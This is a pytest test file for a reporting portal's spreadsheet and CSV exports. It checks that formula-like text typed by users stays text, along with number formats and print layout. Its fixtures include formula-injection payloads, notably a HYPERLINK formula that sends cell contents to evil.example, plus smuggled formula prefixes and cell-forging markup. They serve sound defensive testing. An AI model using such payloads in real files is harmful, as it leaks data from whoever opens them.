"""Every file the portal writes for a spreadsheet, opened as a spreadsheet opens it: text that
starts like a formula (a unit's note `=HYPERLINK(…)`, a name, a file name, a comment) stays text
in the workbook (read back with openpyxl) and in every CSV (read by LibreOffice Calc as Excel on a
Vietnamese-format PC would: ";" between fields, decimal comma); the detail sheet's figures,
their units, numerators, denominators and targets are numbers in columns of their own; every
sheet prints on A4 landscape, one page wide, its header on every page."""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
import zipfile
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook
from xlsxwriter import Workbook

from portal.admin.people.imports import passwords_csv
from portal.demo import sample_pdf
from portal.reports.spreadsheet import LONG_HEADER, TASKS_HEADER
from portal.sheets import StreamedRows, csv_bytes, csv_field, csv_number, write_cell

from .support.apps import copied_app
from .support.clients import login_as
from .support.marks import SERVERS
from .support.progress import make_progress, ok
from .support.records import ids_of

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# What users typed, each starting the way a spreadsheet takes for a formula.
NOTE = '=HYPERLINK("http://evil.example/?d="&A1;"Bấm vào đây")'
LATE_REASON = "@SUM(1;2) chậm do thay đổi nhân sự"
COMMENT = "-2+3 hồ sơ còn thiếu chữ ký"
FILE_NAME = "+1+1 Báo cáo.pdf"
FULL_NAME = "=2+3 Lê Văn Phường Hai"
SIGNED = f"{FULL_NAME}, Chủ tịch UBND phường (phuong2)"  # name, title, account
UNIT_NAME = "=1+1 Phường 3"


def make_hostile_progress(login, ids) -> None:
    """The reports' progress (Phường 1's 45/50 on 1.10 …), Phường 3's 1/3 on 1.10 (33,3 %), and
    formula-like text in every field a user fills: a note, a late explanation, a reviewer's
    comment, a file name, a person's full name and a unit's name."""
    make_progress(login, ids)
    ok(login("phuong1").post(f"/items/{ids.item('Phường 1', '1.2')}/save", {"note": NOTE}))
    ok(login("phuong3").post(f"/items/{ids.item('Phường 3', '1.10')}/save",
                             {"numerator": "1", "denominator": "3", "note": ""}))
    admin = login("quantri")
    ok(admin.post(f"/admin/users/{ids.user('phuong2')}/edit", {
        "full_name": FULL_NAME, "role": "unit", "unit": str(ids.unit("Phường 2")),
        "active": "y"}))
    ward, late = login("phuong2"), ids.item("Phường 2", "1.1")
    ok(ward.upload(late, sample_pdf("phuong 2"), FILE_NAME, htmx=False))
    ok(ward.post(f"/items/{late}/submit", {"late_reason": LATE_REASON}))
    ok(login("noivu.duyet").post(f"/items/{late}/review",
                                 {"verdict": "return", "comment": COMMENT}))
    ok(admin.post(f"/admin/units/{ids.unit('Phường 3')}/edit",
                  {"name": UNIT_NAME, "kind": "commune"}))


@pytest.fixture(scope="module")
def hostile_template(databases):
    return databases.template(
        "exports", lambda app, root: make_hostile_progress(login_as(app), ids_of(app)),
        base="seeded")


@pytest.fixture
def app(hostile_template, databases, tmp_path):
    yield from copied_app(databases, "exports", tmp_path)


def download(client, url: str) -> bytes:
    response = client.get(url)
    assert response.status_code == 200, response.get_data(as_text=True)[:2000]
    return response.data


def workbook(client, directive: int):
    return load_workbook(io.BytesIO(download(
        client, f"/directives/{directive}/reports/matrix.xlsx")))


def formulas(book) -> list[str]:
    return [f"{sheet.title}!{cell.coordinate}: {cell.value}" for sheet in book.worksheets
            for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def keyed(rows: list, header: list[str]) -> dict[tuple, dict]:
    """Rows of the detail list by (unit, task code), each as {column: value}."""
    return {(row[0], row[2]): dict(zip(header, row, strict=True)) for row in rows}


def unit_zip_csv(client, ids) -> bytes:
    data = download(client, f"/directives/{ids.directive()}/units/{ids.unit('Phường 2')}"
                            "/evidence.zip")
    return zipfile.ZipFile(io.BytesIO(data)).read("Danh sách nhiệm vụ.csv")


# --- the workbook ---------------------------------------------------------------------------


def test_openpyxl_tells_a_formula_from_text():
    """The check below can fail: a cell written by XlsxWriter's `write` is a formula to it."""
    out = io.BytesIO()
    with Workbook(out) as book:
        sheet = book.add_worksheet()
        sheet.write(0, 0, NOTE)
        sheet.write_string(0, 1, NOTE)
    book = load_workbook(io.BytesIO(out.getvalue()))
    assert formulas(book) == [f"Sheet1!A1: {NOTE}"]
    assert book.active["B1"].value == NOTE


# Values as the streamed rows write them, beside what XlsxWriter's own writers make of them.
STREAMED = [
    NOTE, LATE_REASON, "  lề trái", "lề phải ", "a & b < c > d \"trích\"", "_x0041_ nguyên văn",
    "ký tự điều khiển \x01\x1f", "dòng 1\ndòng 2", "Tổng: 1.234", 0, -7, 33.3, 1e20,
    Decimal("95.50"), True, False, date(2023, 7, 5), datetime(2023, 7, 5, 14, 30, 15, 250000),
    datetime(1900, 3, 1), date(1900, 2, 27),
]


def test_streamed_rows_write_what_xlsxwriters_writers_write():
    """Row after row into a constant_memory sheet, each value reads back as XlsxWriter's own
    writer (`write_cell`) stores it in the same mode, with its type and format: text as text,
    never a formula."""
    def written(streamed: bool) -> bytes:
        out = io.BytesIO()
        with Workbook(out, {"constant_memory": True}) as book:
            bold = book.add_format({"bold": True})
            moment = book.add_format({"num_format": "HH:MM DD/MM/YYYY"})
            sheet = book.add_worksheet()
            values = [*STREAMED, (None, bold), ("", bold), None, "", ("đậm", bold)]
            if streamed:
                rows = StreamedRows(sheet, date_formats={17: moment})
                rows.append([])  # an empty row: nothing written, the next row number used
                rows.append(values)
                rows.append([None, "", (None, None)])  # nothing to write
                rows.append([(value, bold) for value in STREAMED[:5]])
            else:
                for column, value in enumerate(values):
                    value, style = value if isinstance(value, tuple) else (value, None)
                    write_cell(sheet, 1, column, value, moment if column == 17 else style)
                for column, value in enumerate(STREAMED[:5]):
                    write_cell(sheet, 3, column, value, bold)
        return out.getvalue()

    def cells(data: bytes) -> list:
        sheet = load_workbook(io.BytesIO(data)).active
        return [(cell.coordinate, cell.value, cell.data_type, cell.number_format, cell.font.b)
                for row in sheet.iter_rows() for cell in row], sheet.dimensions

    assert cells(written(True)) == cells(written(False))
    assert formulas(load_workbook(io.BytesIO(written(True)))) == []


def test_streamed_text_that_looks_like_markup_stays_text():
    """XlsxWriter writes an inline text between <r> and </r> as markup, unescaped (its rich
    strings): typed by a user, that would break the file or forge its cells. Streamed, it is
    text."""
    texts = ["<r>vỡ tệp</r>", '<r><t>ô giả</t></r><r><t xml:space="preserve"> mạo</t></r>']
    out = io.BytesIO()
    with Workbook(out, {"constant_memory": True}) as book:
        StreamedRows(book.add_worksheet()).append(texts)
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    assert [cell.value for cell in sheet[1]] == texts


def test_text_typed_by_users_stays_text_in_every_sheet(app, login, ids):
    book = workbook(login("noivu.duyet"), ids.directive())
    assert formulas(book) == []
    rows = list(book["Chi tiết"].iter_rows(min_row=2))
    values = {cell.value: cell for row in rows for cell in row}
    for text in (NOTE, LATE_REASON, COMMENT, SIGNED, UNIT_NAME):
        assert values[text].data_type == "s", text
    assert values[FILE_NAME].data_type == "s"
    returned = keyed([[c.value for c in row] for row in rows], LONG_HEADER)[
        ("Phường 2", "1.1")]
    assert (returned["Giải trình"], returned["Ý kiến duyệt"]) == (LATE_REASON, COMMENT)
    assert returned["Gửi duyệt bởi"] == SIGNED
    assert returned["Tài liệu kiểm chứng"] == FILE_NAME
    matrix = [row[0].value for row in book["Ma trận"].iter_rows(min_row=5)]
    assert UNIT_NAME in matrix


def test_detail_sheet_keeps_figures_units_and_targets_as_numbers(app, login, ids):
    book = workbook(login("lanhdao"), ids.directive())
    sheet = book["Chi tiết"]
    rows = [[cell for cell in row] for row in sheet.iter_rows()]
    assert [cell.value for cell in rows[0]] == LONG_HEADER
    by_key = {key: {column: cell for column, cell in zip(LONG_HEADER, row, strict=True)}
              for key, row in ((((row[0].value, row[2].value)), row) for row in rows[1:])}

    rate = by_key[("Phường 1", "1.10")]
    assert {column: rate[column].value for column in (
        "Số liệu", "Đơn vị tính", "Tử số", "Mẫu số", "Chỉ tiêu", "Loại chỉ tiêu",
        "Đáp ứng chỉ tiêu")} == {"Số liệu": 90, "Đơn vị tính": "%", "Tử số": 45, "Mẫu số": 50,
                             "Chỉ tiêu": 100, "Loại chỉ tiêu": "Tối thiểu (≥)",
                             "Đáp ứng chỉ tiêu": "Chưa đáp ứng chỉ tiêu"}
    for column in ("Số liệu", "Tử số", "Mẫu số", "Chỉ tiêu"):
        assert rate[column].data_type == "n", column
    third = by_key[(UNIT_NAME, "1.10")]
    assert (third["Số liệu"].value, third["Tử số"].value, third["Mẫu số"].value) == (33.3, 1, 3)
    # A count: its unit is the task's, it has no numerator nor denominator; at most 0 left.
    count = by_key[("Phường 1", "1.7")]
    assert (count["Đơn vị tính"].value, count["Tử số"].value, count["Mẫu số"].value) == (
        "hồ sơ trễ hạn, quá hạn còn lại", None, None)
    assert (count["Chỉ tiêu"].value, count["Loại chỉ tiêu"].value) == (0, "Tối đa (≤)")
    # A task without a figure has none of these.
    action = by_key[("Phường 1", "1.2")]
    assert all(action[column].value is None for column in (
        "Số liệu", "Đơn vị tính", "Tử số", "Mẫu số", "Chỉ tiêu", "Loại chỉ tiêu"))

    tasks = {row[0]: dict(zip(TASKS_HEADER, row, strict=True))
             for row in book["Nhiệm vụ"].iter_rows(min_row=4, values_only=True)}
    assert list(book["Nhiệm vụ"].iter_rows(min_row=3, max_row=3, values_only=True))[0] == tuple(
        TASKS_HEADER)
    assert (tasks["1.10"]["Chỉ tiêu"], tasks["1.10"]["Loại chỉ tiêu"],
            tasks["1.10"]["Đơn vị tính"]) == (100, "Tối thiểu (≥)", "%")
    assert (tasks["1.7"]["Chỉ tiêu"], tasks["1.7"]["Loại chỉ tiêu"]) == (0, "Tối đa (≤)")
    assert tasks["2.2"]["Chỉ tiêu"] is None  # the letter gives no rate


def test_every_sheet_prints_on_a4_landscape_one_page_wide_with_its_header(app, login, ids):
    book = workbook(login("noivu.duyet"), ids.directive())
    header_rows = {"Ma trận": "$4:$4", "Nhiệm vụ": "$3:$3", "Chi tiết": "$1:$1"}
    assert book.sheetnames == list(header_rows)
    for sheet in book.worksheets:
        setup = sheet.page_setup
        assert (str(setup.paperSize), setup.orientation) == ("9", "landscape"), sheet.title
        assert sheet.sheet_properties.pageSetUpPr.fitToPage, sheet.title
        # One page wide (fitToWidth left out means 1, ECMA-376), as many pages down as needed.
        assert (setup.fitToWidth or 1, setup.fitToHeight) == (1, 0), sheet.title
        assert sheet.print_title_rows == header_rows[sheet.title]
        assert sheet.oddFooter.center.text == "Trang &P/&N"


# --- CSV ------------------------------------------------------------------------------------


@pytest.mark.parametrize(("value", "field"), [
    (NOTE, "'" + NOTE), ("+84 277 3861 234", "'+84 277 3861 234"), ("-", "'-"),
    ("@ghi chú", "'@ghi chú"), ("\tthụt lề", "'\tthụt lề"), ("\rdòng", "'\rdòng"),
    ("Phường 1 = tốt", "Phường 1 = tốt"), ("", ""), (None, ""),
    (90.5, "90,5"), (90.0, "90"), (1234, "1234"), (-3, "-3"), (Decimal("93.30"), "93,3"),
    (1e-7, "0,0000001"), (True, "Có"),
    (date(2023, 6, 16), "16/06/2023"), (datetime(2023, 6, 16, 9, 41), "09:41 16/06/2023"),
])
def test_a_csv_field_is_text_or_a_vietnamese_number(value, field):
    assert csv_field(value) == field


def test_csv_numbers_never_have_an_exponent_or_grouping():
    assert [csv_number(n) for n in (1e20, 12345678.25, Decimal("1E+3"))] == [
        "100000000000000000000", "12345678,25", "1000"]


def test_csvs_are_semicolon_separated_utf8_with_bom_and_keep_text_as_text(app, login, ids):
    client = login("noivu.duyet")
    data = download(client, f"/directives/{ids.directive()}/reports/details.csv")
    assert data.startswith("\ufeffĐơn vị;Loại đơn vị;".encode())
    assert b"\r\n" in data and not data.startswith(b"sep=")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows[0] == LONG_HEADER and {len(row) for row in rows} == {len(LONG_HEADER)}
    by_key = keyed(rows[1:], LONG_HEADER)
    assert by_key[("Phường 1", "1.2")]["Ghi chú"] == "'" + NOTE
    returned = by_key[("Phường 2", "1.1")]
    assert (returned["Giải trình"], returned["Ý kiến duyệt"], returned["Gửi duyệt bởi"],
            returned["Tài liệu kiểm chứng"]) == (
        "'" + LATE_REASON, "'" + COMMENT, "'" + SIGNED, "'" + FILE_NAME)
    third = by_key[("'" + UNIT_NAME, "1.10")]
    assert [third[c] for c in ("Số liệu", "Đơn vị tính", "Tử số", "Mẫu số", "Chỉ tiêu")] == [
        "33,3", "%", "1", "3", "100"]

    inside = unit_zip_csv(login("phuong2"), ids)
    assert inside.startswith("\ufeffMã nhiệm vụ;".encode())
    rows = list(csv.reader(io.StringIO(inside.decode("utf-8-sig"), newline=""), delimiter=";"))
    returned = next(row for row in rows if row[0] == "1.1")
    assert "'" + FILE_NAME in returned


def libreoffice_reads(tmp_path: Path, files: dict[str, bytes]) -> dict[str, list[list]]:
    """Each CSV as LibreOffice Calc opens it on a Vietnamese-format PC (";" between fields, '"'
    around them, UTF-8, Vietnamese numbers and dates), saved as .xlsx and read back: per file,
    its rows of openpyxl cells."""
    soffice = shutil.which("soffice")
    calc = soffice and any(Path(soffice).resolve().parent.glob("libsclo.so"))
    if not calc:
        message = "needs LibreOffice Calc (libreoffice-calc-nogui); .ci/run installs it"
        if os.environ.get("CI"):
            pytest.fail(message)
        pytest.skip(message)
    for name, data in files.items():
        (tmp_path / f"{name}.csv").write_bytes(data)
    # CSV filter options: separator 59 (";"), text delimiter 34 ('"'), character set 76
    # (UTF-8), from line 1, default column types, language 1066 (Vietnamese).
    subprocess.run([soffice, "--headless", f"-env:UserInstallation=file://{tmp_path}/profile",
                    "--infilter=CSV:59,34,76,1,,1066", "--convert-to", "xlsx",
                    "--outdir", str(tmp_path / "read"),
                    *(str(tmp_path / f"{name}.csv") for name in files)],
                   check=True, timeout=240, capture_output=True)
    return {name: [list(row) for row in load_workbook(
        tmp_path / "read" / f"{name}.xlsx").active.iter_rows()] for name in files}


@SERVERS
def test_libreoffice_opens_every_csv_in_columns_with_text_as_text(app, login, ids, tmp_path):
    client = login("noivu.duyet")
    accounts = [["nv.them", "@Trần Thị C", "Phòng Nội vụ (duyệt)", "Phòng Nội vụ",
                 "k7dp-3mxa-q9rt-hw2e"]]
    read = libreoffice_reads(tmp_path, {
        "details": download(client, f"/directives/{ids.directive()}/reports/details.csv"),
        "unit": unit_zip_csv(login("phuong2"), ids),
        "passwords": passwords_csv(accounts),
        # The same note, written as the exports wrote it before: a live formula to Calc.
        "unguarded": csv_bytes(["Ghi chú"], []) + f'"{NOTE.replace(chr(34), 2 * chr(34))}"\r\n'
        .encode(),
    })
    assert [cell.data_type for cell in read["unguarded"][1]] == ["f"]
    for name in ("details", "unit", "passwords"):
        cells = [cell for row in read[name] for cell in row]
        assert [cell.value for cell in cells if cell.data_type == "f"] == [], name

    rows = read["details"]
    assert [cell.value for cell in rows[0]] == LONG_HEADER  # in columns, diacritics intact
    by_key = {key: dict(zip(LONG_HEADER, row, strict=True)) for key, row in (
        ((row[0].value, row[2].value), row) for row in rows[1:])}
    noted = by_key[("Phường 1", "1.2")]["Ghi chú"]
    assert (noted.value, noted.data_type) == ("'" + NOTE, "s")
    returned = by_key[("Phường 2", "1.1")]
    for column, text in (("Giải trình", LATE_REASON), ("Ý kiến duyệt", COMMENT),
                         ("Gửi duyệt bởi", SIGNED),
                         ("Tài liệu kiểm chứng", FILE_NAME)):
        assert (returned[column].value, returned[column].data_type) == ("'" + text, "s")
    # Numbers read as numbers with the decimal comma, the deadline as a date.
    third = by_key[("'" + UNIT_NAME, "1.10")]
    assert [(third[c].value, third[c].data_type) for c in ("Số liệu", "Tử số", "Mẫu số",
                                                            "Chỉ tiêu")] == [
        (33.3, "n"), (1, "n"), (3, "n"), (100, "n")]
    assert returned["Hạn"].is_date and returned["Hạn"].value.date() == date(2023, 6, 16)
    # Codes stay the codes: "1.10" is not the number 1.1.
    assert {row[2].value for row in rows[1:]} >= {"1.1", "1.10", "1.2"}

    unit = {row[0].value: row for row in read["unit"][1:]}
    assert ("'" + FILE_NAME) in [cell.value for cell in unit["1.1"]]
    assert [cell.value for cell in read["passwords"][1]] == [
        "nv.them", "'@Trần Thị C", "Phòng Nội vụ (duyệt)", "Phòng Nội vụ",
        "k7dp-3mxa-q9rt-hw2e"]
